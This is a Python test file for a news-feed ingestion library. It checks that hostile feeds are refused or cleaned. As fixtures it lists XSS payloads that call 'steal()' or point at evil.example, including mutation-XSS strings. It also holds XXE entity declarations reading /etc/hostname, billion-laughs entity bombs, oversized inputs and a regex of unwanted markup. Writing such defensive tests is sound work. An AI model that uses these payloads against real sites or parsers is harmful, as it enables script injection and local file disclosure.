"""What a hostile or broken server sends: a feed or a reason, within bounds, and nothing of it in what is kept."""

from __future__ import annotations

import re
from dataclasses import fields
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from digest.errors import FeedUnreadable
from digest.ingest.feeds.bodies import blocks_in
from digest.ingest.feeds.read import read_feed
from digest.ingest.feeds.take import TakenFeed, take_feed
from digest.ingest.lines import INVISIBLE
from digest.model.articles import Document, Source, SourceKind, SourceSlug
from digest.model.feeds import Entry, Feed
from tests.ingest.feeds.test_read import ATOM, RDF, RSS

URL = "https://harbour.example/feed"
SOURCE = Source(slug=SourceSlug("harbour"), name="Harbour Post", kind=SourceKind.FEED)
UNWANTED = re.compile(r"<script|javascript:|onerror|data:text|vbscript:|\bexpression\(", re.IGNORECASE)


def take(body: bytes) -> TakenFeed:
    return take_feed(body, content_type=None, url=URL, source=SOURCE)


def rss(items: str) -> bytes:
    return f'<rss version="2.0"><channel><title>T</title>{items}</channel></rss>'.encode()


def texts(document: Document) -> list[str]:
    """Every string of a document, its addresses apart."""
    said = [document.title, document.byline or "", document.dateline or "", document.language or ""]
    return [*said, *document.categories, *(block.text for block in document.blocks)]


def addresses(document: Document) -> list[str]:
    return [*([document.url] if document.url else []), *(one.url for one in document.enclosures)]


def is_clean(taken: TakenFeed) -> bool:
    for item in taken.items:
        if any(INVISIBLE.search(text) for text in texts(item.document)):
            return False
        if any(
            not one.startswith(("http://", "https://")) or INVISIBLE.search(one) for one in addresses(item.document)
        ):
            return False
    return True


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

REFUSED = {
    "a million entries": (rss("<item/>" * 1_000_000), "more than 10,000 entries"),
    "a million open entries": (b"<rss><channel>" + b"<item>" * 1_000_000, "nested more than"),
    "deep nesting": (rss(f"<item><description>{'<a>' * 100_000}"), "nested more than"),
    "a flood of attributes": (
        b'<rss version="2.0" ' + b" ".join(b'a%d=""' % n for n in range(20_000)) + b"><channel/></rss>",
        "attributes",
    ),
    "a flood of namespaces": (
        b'<rss version="2.0" ' + b" ".join(b'xmlns:a%d="u"' % n for n in range(60_000)) + b"><channel/></rss>",
        "namespaces",
    ),
    "a tag without an end": (b"<rss><channel><item " + b'a="x" ' * 200_000, "does not end"),
    "a million JSON items": (b'{"items":[' + b"{}," * 1_000_000 + b"{}]}", "entries"),
    "deep JSON": (b'{"items":' + b"[" * 200_000, "too deep"),
    "nothing": (b"", "empty"),
    "white space": (b" \n" * 1_000_000, "empty"),
    "NUL bytes": (b"\0" * 1_000_000, "empty"),
    "a page": (b"<!doctype html><title>Hello</title>", "web page"),
    "too many bytes": (b"<rss>" + b" " * 20_000_001, "too large"),
}


@pytest.mark.parametrize(("body", "why"), REFUSED.values(), ids=REFUSED)
def test_what_no_feed_needs_is_refused_with_its_reason(body: bytes, why: str) -> None:
    with pytest.raises(FeedUnreadable, match=why) as refused:
        take(body)
    assert URL in refused.value.message
    assert refused.value.hint


def test_entities_are_never_expanded() -> None:
    declared = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "laugh">{LAUGHS}]>'.encode()
    (item,) = take(declared + rss("<item><title>a &l9; b</title></item>")).items
    assert item.document.title == "a &l9; b"


def test_external_entities_are_never_looked_at() -> None:
    declared = (
        b'<!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/hostname"><!ENTITY % more SYSTEM "http://127.0.0.1:1/">]>'
    )
    (item,) = take(declared + rss("<item><title>a &file; b</title></item>")).items
    assert item.document.title == "a &file; b"


def test_a_document_type_in_the_middle_declares_nothing() -> None:
    body = b'<rss><channel><item><title>x &a;</title><!DOCTYPE x [<!ENTITY a "secret">]></item></channel></rss>'
    assert all("secret" not in text for item in take(body).items for text in texts(item.document))


@pytest.mark.parametrize(
    "markup",
    [
        "<script>steal()</script>",
        '<img src="x" onerror="steal()">',
        '<a href="javascript:steal()">a link</a>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<form action="https://evil.example/"><input name="password"></form>',
        '<iframe src="https://evil.example/"></iframe>',
        '<svg onload="steal()"><text>steal()</text></svg>',
        '<p style="background:url(https://evil.example/)">styled</p>',
        '<img src="https://evil.example/pixel.gif" width="1" height="1">',
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
        '<object data="data:text/html;base64,c3RlYWwoKQ=="></object>',
    ],
)
def test_nothing_of_hostile_markup_survives(markup: str) -> None:
    told = "<p>The harbour was closed on Monday, the council said.</p>"
    body = rss(
        f"<item><title>A title</title><link>{URL}</link><description><![CDATA[{told}{markup}]]></description></item>"
    )
    (item,) = take(body).items
    said = " ".join([*texts(item.document), *addresses(item.document)])
    assert "The harbour was closed on Monday, the council said." in said
    assert "steal()" not in said
    assert "evil" not in said
    assert UNWANTED.search(said) is None


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "http://[", "x:y"]
)
def test_only_addresses_of_the_web_are_kept(address: str) -> None:
    item = f'<item><title>T</title><link>{address}</link><enclosure url="{address}" type="audio/mpeg"/></item>'
    (taken,) = take(rss(item)).items
    assert addresses(taken.document) == []


def test_direction_marks_and_controls_are_gone_from_every_field() -> None:
    mark = "\u202e\u200b\u2066\ufeff"
    entity = "&#8238;&#8203;&#x2066;"
    item = (
        f"<item><title>A{mark} tit{entity}le</title><link>https://harbour.example/{mark}a</link><guid>g{mark}1</guid>"
        f"<author>Jane{mark} Doe</author><category>Sea{mark}</category>"
        f"<description>&lt;p>One {mark}two &amp;#8238;three.&lt;/p></description></item>"
    )
    taken = take(rss(item))
    (one,) = taken.items
    assert is_clean(taken)
    assert (one.document.title, one.guid, one.document.byline) == ("A title", "g1", "Jane Doe")
    assert one.document.blocks[0].text == "One two three."


def test_an_entry_of_one_endless_word_is_bounded() -> None:
    blocks = blocks_in(Entry(guid=None, url=None, title="x", content="<p>" + "wörd" * 1_000_000))
    assert blocks
    assert max(len(block.text) for block in blocks) <= 8_000
    assert sum(len(block.text) for block in blocks) <= 1_000_000


ANY_FEED = st.sampled_from([one.encode() for one in (ATOM, RSS, RDF)])
PIECES = st.sampled_from(
    [b"<", b">", b"]]>", b"<![CDATA[", b"<!--", b"&", b"&#x202e;", b"&#0;", b"\0", b"\xff", b"</item>", b"<item>", b'"']
)


@given(st.binary(max_size=2_000))
@settings(deadline=None)
def test_any_bytes_are_a_feed_or_unreadable(body: bytes) -> None:
    try:
        feed = read_feed(body, content_type=None, url=URL)
    except FeedUnreadable:
        return
    assert isinstance(feed, Feed)


@given(feed=ANY_FEED, cuts=st.lists(st.tuples(st.integers(0, 3_000), st.integers(0, 40), PIECES), max_size=6))
@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None)
def test_a_mutated_feed_is_clean_or_unreadable(feed: bytes, cuts: list[tuple[int, int, bytes]]) -> None:
    for at, length, piece in cuts:
        feed = feed[:at] + piece + feed[at + length :]
    try:
        taken = take(feed)
    except FeedUnreadable:
        return
    assert is_clean(taken)


@given(text=st.text(max_size=300), said=st.text(max_size=300).map(escape) | st.text(max_size=300))
@settings(deadline=None)
def test_documents_have_no_control_or_direction_marks(text: str, said: str) -> None:
    body = rss(f"<item><title><![CDATA[{text}]]></title><description>{said}</description></item>")
    try:
        taken = take(body)
    except FeedUnreadable:
        return
    assert is_clean(taken)


def test_the_texts_looked_at_are_all_there_are() -> None:
    assert {one.name for one in fields(Document)} == {
        "title", "blocks", "byline", "dateline", "published", "language", "url", "source", "removed", "categories",
        "enclosures",
    }  # fmt: skip
